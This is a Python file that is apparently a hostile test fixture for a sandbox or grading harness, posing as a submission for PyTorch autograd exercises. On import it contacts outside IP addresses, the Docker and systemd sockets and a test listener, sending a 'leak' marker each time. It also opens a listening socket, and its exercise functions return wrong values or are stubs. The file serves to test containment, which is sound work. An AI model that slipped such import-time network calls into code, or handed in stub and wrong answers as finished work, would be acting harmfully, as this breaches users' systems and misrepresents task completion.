"""Attack: talk to the network: a TCP listener on 127.0.0.1 (the corpus test's, port filled in at test time),
outside addresses over TCP and UDP, local service sockets, and a listening socket of its own.
Every attempt also tries to send data. The functions return wrong values. The slow attempts (outside
addresses time out) are made by the first import only: every check imports this file again.
"""

import socket
import tempfile
from pathlib import Path

import torch

LISTENER = ("127.0.0.1", int("__CORPUS_PORT__"))
OUTSIDE = [("1.1.1.1", 53), ("8.8.8.8", 443), ("93.184.215.14", 80)]
SERVICES = ["/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private"]
MESSAGE = b"leak __CORPUS_RUN__\n"
FIRST = Path(tempfile.gettempdir(), "sockets-tried")


def _tcp(address):
    try:
        with socket.create_connection(address, timeout=0.3) as connection:
            connection.sendall(MESSAGE)
            print(f"sockets: connected to {address}")
    except OSError as error:
        print(f"sockets: {address}: {error}")


def _udp(address):
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.sendto(MESSAGE, address)
    except OSError as error:
        print(f"sockets: udp {address}: {error}")


def _unix(path):
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
            connection.settimeout(0.3)
            connection.connect(path)
            connection.sendall(MESSAGE)
    except OSError as error:
        print(f"sockets: {path}: {error}")


def _listen():
    try:
        server = socket.socket()
        server.bind(("0.0.0.0", 0))
        server.listen()
        print(f"sockets: listening on {server.getsockname()}")
    except OSError as error:
        print(f"sockets: listen: {error}")


def attempt():
    _tcp(LISTENER)
    _listen()
    if FIRST.exists():
        return
    FIRST.touch()
    for address in OUTSIDE:
        _tcp(address)
        _udp(address)
    for path in SERVICES:
        _unix(path)


attempt()


def double_square_grad(x):
    _tcp(LISTENER)
    return torch.zeros_like(x)


def _todo(*args, **kwargs):
    raise NotImplementedError("not done yet")


accumulate_then_clear = detached_product_grad = sum_product_grads = mean_of_squares_grad = _todo
double_no_grad = double_grad_disabled = double_decorated = clip_and_report = minimise_product = _todo


class LegendreP3(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        raise NotImplementedError("not done yet")

    @staticmethod
    def backward(ctx, grad_output):
        raise NotImplementedError("not done yet")
